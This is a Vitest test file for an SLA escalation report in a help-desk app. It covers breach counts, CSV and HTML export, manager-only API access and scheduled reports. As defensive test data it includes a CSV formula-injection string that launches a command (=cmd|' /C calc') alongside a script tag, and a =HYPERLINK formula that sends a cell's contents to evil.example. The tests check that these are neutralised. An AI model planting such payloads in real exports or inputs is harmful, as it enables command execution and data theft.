/** The SLA escalation report from a seeded history, with exact counts; CSV, HTML and the API. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runSlaSweep } from '../../src/sla/run-sweep.js';
import { buildReport } from '../../src/reports/build-report.js';
import { createReport, runScheduledReport } from '../../src/reports/create-report.js';
import { berlin, createDesk, type Desk, type Json } from './helpers.js';

const NASTY = `=cmd|' /C calc'!A0, "quoted" <script>alert(1)</script>`;

let d: Desk;
let managerToken: string;
const ids: Record<string, string> = {};

/**
 * Monday 2 March 2026, office calendar (Berlin) unless premium (around the clock):
 * A, D answered at 10:30 (first responses met); D resolved at 11:00 (resolution met);
 * C (enterprise → premium, 2h, due 12:00) warned 11:50, breached (the sweep after the due time) 12:01 and escalated;
 * B warned at 16:30 (A was answered in time); C's resolution warned Tuesday 09:50;
 * B (billing) and C's resolution, due Tuesday 10:00, breached 10:01 — B escalated, C already tier 2;
 * E (urgent, a hostile subject) created Tuesday 10:05, first response due 11:05.
 */
async function seedHistory(): Promise<void> {
  d = createDesk();
  managerToken = d.h.tokenFor(d.h.agent({ name: 'Mia', email: 'mia@casebook.test', role: 'manager' }));
  const at = async (local: string, sweep = false) => {
    d.h.clock.set(berlin(local));
    if (sweep) await runSlaSweep(d.h.services);
  };
  await at('2026-03-02T10:00');
  ids.A = await d.create({ subject: 'Display name' });
  ids.B = await d.create({ subject: 'Invoice question', description: 'Where is my invoice for February?' });
  ids.C = await d.create({ customer: { email: 'eve@acme.example', tier: 'enterprise' }, subject: 'Team settings', description: 'How do I add a colleague?' });
  ids.D = await d.create({ subject: 'Security settings', description: 'Can I set a minimum length for passwords?' });
  await at('2026-03-02T10:30');
  await d.reply(ids.A);
  await d.reply(ids.D);
  await at('2026-03-02T11:00');
  await d.transition(ids.D, 'resolve', { solution: 'Settings → Security.' });
  await at('2026-03-02T11:50', true);
  await at('2026-03-02T12:01', true);
  await at('2026-03-02T16:30', true);
  await at('2026-03-03T09:50', true);
  await at('2026-03-03T10:01', true);
  await at('2026-03-03T10:05');
  ids.E = await d.create({ subject: NASTY, description: 'Nothing works as expected today', priority: 'urgent' });
  await at('2026-03-03T10:30');
}

beforeAll(seedHistory);
afterAll(() => d.h.close());

const period = { from: Date.parse(berlin('2026-03-02T00:00')), to: Date.parse(berlin('2026-03-03T10:30')) };

describe('the report for a seeded history', () => {
  it('has exact counts, lists and attainment', async () => {
    expect((await d.h.all<{ q: string }>('SELECT queue_id AS q FROM cases ORDER BY id')).map((r) => r.q)).toEqual([
      'general', 'advanced', 'advanced', 'general', 'general',
    ]);
    const r = await buildReport(d.h.services, { ...period, timezone: 'Europe/Berlin' });
    expect(r.period).toEqual({ from: berlin('2026-03-02T00:00'), to: berlin('2026-03-03T10:30') });
    expect(r.totals).toEqual({ breaches: 3, warnings: 3, escalations: 2, atRisk: 1, met: 3, missed: 3, attainment: 50 });
    // Who held the case when it breached: Alice (general, billing) before the escalations moved B and C to Dana.
    expect(r.breaches.map((b) => [b.caseId, b.metric, b.policy, b.queue, b.breachedAt, b.assignee])).toEqual([
      [ids.C, 'firstResponse', 'premium', 'general', berlin('2026-03-02T12:01'), 'Alice'],
      [ids.B, 'firstResponse', 'standard', 'billing', berlin('2026-03-03T10:01'), 'Alice'],
      [ids.C, 'resolution', 'premium', 'advanced', berlin('2026-03-03T10:01'), 'Dana'],
    ]);
    expect(r.escalations.map((e) => [e.caseId, e.fromQueue, e.queue, e.tier, e.reason, e.rule])).toEqual([
      [ids.C, 'general', 'advanced', 2, 'SLA breached', 'Breached SLAs go to advanced support'],
      [ids.B, 'billing', 'advanced', 2, 'SLA breached', 'Breached SLAs go to advanced support'],
    ]);
    expect(r.escalationReasons).toEqual([{ reason: 'SLA breached', count: 2 }]);
    expect(r.attainment.byQueue).toEqual([
      { key: 'advanced', met: 0, missed: 1, attainment: 0 },
      { key: 'billing', met: 0, missed: 1, attainment: 0 },
      { key: 'general', met: 3, missed: 1, attainment: 75 },
    ]);
    expect(r.attainment.byPolicy).toEqual([
      { key: 'premium', met: 0, missed: 2, attainment: 0 },
      { key: 'standard', met: 3, missed: 1, attainment: 75 },
    ]);
    expect(r.atRisk).toEqual([
      { caseId: ids.E, subject: NASTY, metric: 'firstResponse', policy: 'standard', queue: 'general', priority: 'urgent', dueAt: berlin('2026-03-03T11:05'), minutesLeft: 35, businessMinutesLeft: 35 },
    ]);
    expect(r.oldestWaiting.map((w) => [w.caseId, w.metric, w.state, w.assignee, w.waitedMinutes])).toEqual([
      [ids.B, 'firstResponse', 'breached', 'Dana', 24 * 60 + 30],
      [ids.C, 'firstResponse', 'breached', 'Dana', 24 * 60 + 30],
      [ids.E, 'firstResponse', 'running', 'Alice', 25],
    ]);
  });

  it('caps its lists, never its counts', async () => {
    const r = await buildReport(d.h.services, { ...period, listLimit: 1 });
    expect(r.totals).toMatchObject({ breaches: 3, escalations: 2, missed: 3, attainment: 50 });
    expect(r.breaches.map((b) => [b.caseId, b.metric])).toEqual([[ids.C, 'firstResponse']]);
    expect(r.escalations).toHaveLength(1);
    expect(r.escalationReasons).toEqual([{ reason: 'SLA breached', count: 2 }]);
  });

  it('counts only what happened inside [from, to)', async () => {
    const r = await buildReport(d.h.services, { from: Date.parse(berlin('2026-03-03T10:00')), to: period.to });
    expect(r.totals).toMatchObject({ breaches: 2, warnings: 0, escalations: 1, met: 0, missed: 2, attainment: 0 });
    const before = await buildReport(d.h.services, { from: period.from, to: Date.parse(berlin('2026-03-03T10:00')) });
    expect(before.totals).toMatchObject({ breaches: 1, warnings: 3, escalations: 1, met: 3, missed: 1, attainment: 75 });
  });

  it('renders CSV with RFC 4180 quoting and no formula injection, and HTML with everything escaped', async () => {
    const row = await createReport(d.h.services, { ...period, trigger: 'manual', timezone: 'Europe/Berlin' });
    expect(row.deliveryState).toBe('none'); // no SMTP_URL here
    const lines = row.csv.split('\r\n');
    expect(lines[0]).toBe('section,case,subject,queue,from_queue,tier,policy,metric,priority,state,at,due_at,minutes,count,met,missed,attainment_percent,reason,rule,business_minutes_left');
    expect(lines.at(-1)).toBe('');
    // The breach rows say who held the case, in `reason` (as the oldest waiting rows do).
    expect(lines.filter((l) => l.startsWith('"breach",')).map((l) => l.split(',').slice(-3).join(','))).toEqual(['"assigned to Alice",,', '"assigned to Alice",,', '"assigned to Dana",,']);
    expect(lines).toContain(`"at_risk","${ids.E}","'=cmd|' /C calc'!A0, ""quoted"" <script>alert(1)</script>","general",,,"standard","firstResponse","urgent",,,"${berlin('2026-03-03T11:05')}",35,,,,,,,35`);
    expect(lines).toContain('"attainment_by_queue",,,"general",,,,,,,,,,,3,1,75,,,');
    expect(lines).toContain('"summary",,,,,,,,,,,,,,3,3,50,"attainment",,');

    expect(row.html).not.toContain('<script>');
    expect(row.html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    expect(row.html).toContain('2026-03-02 00:00 +01:00 – 2026-03-03 10:30 +01:00 (Europe/Berlin)');
    expect(row.html).toMatch(/<th>Breaches<\/th><td class="n">3<\/td>/);
  });
});

describe('reports over the API', () => {
  it('lists, shows, builds and downloads reports for managers only', async () => {
    const created = await d.call('POST', '/api/v1/reports', managerToken, {
      from: berlin('2026-03-02T00:00'),
      to: berlin('2026-03-03T10:30'),
      timezone: 'Europe/Berlin',
    });
    expect(created.status).toBe(201);
    expect(created.json).toMatchObject({ trigger: 'manual', totals: { breaches: 3, escalations: 2 }, delivery: { state: 'none', attempts: 0 } });
    const id = created.json.id as number;

    const list = (await d.call('GET', '/api/v1/reports', managerToken)).json as unknown as Json[];
    expect(list[0]).toMatchObject({ id, links: { csv: `/api/v1/reports/${id}/report.csv` } });
    expect((await d.call('GET', `/api/v1/reports/${id}`, managerToken)).json.summary.totals.attainment).toBe(50);

    const csv = await d.h.api('GET', `/api/v1/reports/${id}/report.csv`, { token: managerToken });
    expect(csv.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('Content-Disposition')).toMatch(/^attachment; filename="sla-report-2026-03-03-\d+\.csv"$/);
    expect(await csv.text()).toMatch(/^section,case,subject/);
    const page = await d.h.api('GET', `/api/v1/reports/${id}/report.html`, { token: managerToken });
    expect(page.headers.get('Content-Type')).toContain('text/html');
    expect(page.headers.get('Content-Disposition')).toMatch(/^attachment; filename="sla-report-2026-03-03-\d+\.html"$/);
    expect(await page.text()).toMatch(/^<!doctype html>/);

    expect((await d.call('GET', '/api/v1/reports', d.aliceToken)).status).toBe(403);

    // Downloads are named for the last day of the period [from, to), in the report's zone.
    const name = async (from: string, to: string, timezone?: string) => {
      const made = await d.call('POST', '/api/v1/reports', managerToken, { from, to, ...(timezone ? { timezone } : {}), deliver: false });
      expect(made.status).toBe(201);
      const res = await d.h.api('GET', `/api/v1/reports/${made.json.id}/report.csv`, { token: managerToken });
      return res.headers.get('Content-Disposition')!.replace(`-${made.json.id}.csv"`, '');
    };
    expect(await name('2026-03-02T00:00:00Z', '2026-03-03T00:00:00Z')).toBe('attachment; filename="sla-report-2026-03-02');
    expect(await name(berlin('2026-03-02T00:00'), berlin('2026-03-09T00:00'), 'Europe/Berlin')).toBe('attachment; filename="sla-report-2026-03-08');
    expect(await name('2026-03-01T22:00:00Z', '2026-03-02T22:00:00Z', 'Pacific/Auckland')).toBe('attachment; filename="sla-report-2026-03-03');
    expect((await d.call('GET', '/api/v1/reports/99999', managerToken)).status).toBe(404);
    const backwards = await d.call('POST', '/api/v1/reports', managerToken, { from: berlin('2026-03-03T00:00'), to: berlin('2026-03-02T00:00') });
    expect(backwards).toMatchObject({ status: 422, json: { code: 'VALIDATION_FAILED' } });
    expect((await d.call('POST', `/api/v1/reports/${id}/deliver`, managerToken)).json).toMatchObject({ code: 'CONFLICT' });
  });
});

describe('the CSV formula guard end to end', () => {
  it('a rule reason that starts with a TAB before a formula is guarded on both sides of the TAB, whatever the separator', async () => {
    const desk = createDesk();
    try {
      const manager = desk.h.tokenFor(desk.h.agent({ name: 'Mo', email: 'mo@casebook.test', role: 'manager' }));
      // A manager-published rule's reason is kept as written (the API trims subjects and names, not this).
      const payload = '\t=HYPERLINK("http://evil.example/?"&A1,"SLA breached")';
      const current = (await desk.call('GET', '/api/v1/rulesets/escalation', manager)).json;
      const rules = (current.rules as Json[]).map((r) => (r.name === 'Breached SLAs go to advanced support' ? { ...r, event: { ...r.event, params: { ...r.event.params, reason: payload } } } : r));
      expect((await desk.call('PUT', '/api/v1/rulesets/escalation', manager, { rules, note: 'tab reason' })).status).toBe(200);
      desk.h.clock.set(berlin('2026-03-02T10:00'));
      const id = await desk.create({ subject: 'Display name' });
      desk.h.clock.set(berlin('2026-03-03T10:01'));
      await runSlaSweep(desk.h.services);
      const made = await desk.call('POST', '/api/v1/reports', manager, { from: berlin('2026-03-02T00:00'), to: berlin('2026-03-04T00:00') });
      expect(made.status).toBe(201);
      const csv = await (await desk.h.api('GET', `/api/v1/reports/${made.json.id}/report.csv`, { token: manager })).text();
      const guarded = `"'\t'=HYPERLINK(""http://evil.example/?""&A1,""SLA breached"")"`;
      expect(csv.split('\r\n').filter((l) => l.includes('HYPERLINK'))).toEqual([
        expect.stringMatching(new RegExp(`^"escalation","${id}",.*,${guarded.replace(/[().?*+|]/g, '\\$&')},"Breached SLAs go to advanced support",$`)),
        `"escalation_reason",,,,,,,,,,,,,1,,,,${guarded},,`,
      ]);
      // Opened with TAB, semicolon, pipe or comma as the separator, no cell starts a formula.
      for (const separator of ['\t', ';', '|', ',']) {
        const cells = csv.split('\r\n').flatMap((line) => line.split(separator)).map((cell) => cell.replace(/^[\s"]+/, ''));
        expect(cells.filter((cell) => /^[=+@]/.test(cell) || /^-[^0-9]/.test(cell))).toEqual([]);
      }
    } finally {
      desk.h.close();
    }
  });
});

describe('the scheduled report', () => {
  it('covers the last 24 hours first, then the time since the end of the last scheduled report', async () => {
    d.h.clock.set(berlin('2026-03-03T07:00'));
    const first = (await runScheduledReport(d.h.services, { timezone: 'Europe/Berlin' }))!;
    expect([first.periodStart, first.periodEnd]).toEqual([Date.parse(berlin('2026-03-02T07:00')), Date.parse(berlin('2026-03-03T07:00'))]);
    expect(first.trigger).toBe('schedule');
    expect(await runScheduledReport(d.h.services)).toBeNull(); // no time passed
    d.h.clock.set(berlin('2026-03-04T07:00'));
    const second = (await runScheduledReport(d.h.services))!;
    expect([second.periodStart, second.periodEnd]).toEqual([first.periodEnd, Date.parse(berlin('2026-03-04T07:00'))]);
  });

  // On PostgreSQL several instances take turns by the tick's claim (job_runs: test/postgres/instances.test.ts).
  it.runIf(process.env.CASEBOOK_TEST_DATABASE !== 'postgres')('reports a period once when two runs fire at once: the one that stores second stores nothing', async () => {
    d.h.clock.set(berlin('2026-03-05T07:00'));
    const runs = await Promise.all([runScheduledReport(d.h.services), runScheduledReport(d.h.services)]);
    expect(runs.filter((r) => r !== null).map((r) => [r!.periodStart, r!.periodEnd])).toEqual([[Date.parse(berlin('2026-03-04T07:00')), Date.parse(berlin('2026-03-05T07:00'))]]);
    expect(runs.filter((r) => r === null)).toHaveLength(1);
    const stored = await d.h.all<{ n: number }>("SELECT count(*) AS n FROM sla_reports WHERE trigger = 'schedule' AND period_end = ?", Date.parse(berlin('2026-03-05T07:00')));
    expect(Number(stored[0]!.n)).toBe(1);
  });
});

describe('time left of an at-risk timer', () => {
  it('is given in business minutes as well as on the clock (JSON, CSV, HTML)', async () => {
    // Wednesday 16:45, urgent (1 business hour, office 09:00-17:00): 15 min today, 45 on Thursday.
    d.h.clock.set(berlin('2026-03-04T16:45'));
    const id = await d.create({ subject: 'Late caller', description: 'Nothing works as expected today', priority: 'urgent' });
    d.h.clock.set(berlin('2026-03-04T16:50'));
    const row = await createReport(d.h.services, { from: Date.parse(berlin('2026-03-04T00:00')), to: d.h.clock.now(), trigger: 'manual', timezone: 'Europe/Berlin', deliver: false });
    const entry = (row.summary as unknown as { atRisk: Json[] }).atRisk.find((r) => r.caseId === id && r.metric === 'firstResponse');
    // 55 business minutes of the hour are left; Thursday 09:45 is 16 h 55 min away on the clock.
    expect(entry).toMatchObject({ dueAt: berlin('2026-03-05T09:45'), minutesLeft: 16 * 60 + 55, businessMinutesLeft: 55 });
    expect(row.csv.split('\r\n').find((l) => l.startsWith(`"at_risk","${id}",`) && l.includes('"firstResponse"'))).toMatch(/,1015,,,,,,,55$/);
    expect(row.html).toContain('<td>2026-03-05 09:45 +01:00</td><td class="n">55 min in business hours (16 h 55 min on the clock)</td>');
  });
});

describe('a calendar with fewer business hours in three years than the at-risk window', () => {
  it('still builds the report: its timers are all within the window', async () => {
    // A valid calendar open one hour a week (156 hours in three years), asked for 200 hours ahead.
    const config = structuredClone((await d.call('GET', '/api/v1/sla-config')).json.config as Json);
    config.calendars.saturdayHour = { timezone: 'Asia/Kathmandu', weekly: { sat: [['10:00', '11:00']] } };
    expect((await d.call('PUT', '/api/v1/sla-config', managerToken, { config })).status).toBe(200);
    const res = await d.call('POST', '/api/v1/reports', managerToken, { from: berlin('2026-03-04T00:00'), to: berlin('2026-03-04T17:00'), atRiskHours: 200 });
    expect(res.status, JSON.stringify(res.json)).toBe(201);
    const summary = (await d.call('GET', `/api/v1/reports/${res.json.id as number}`, managerToken)).json.summary as Json;
    expect(summary.atRiskHours).toBe(200);
    expect((summary.atRisk as Json[]).map((r) => r.subject)).toContain('Late caller');
  });
});
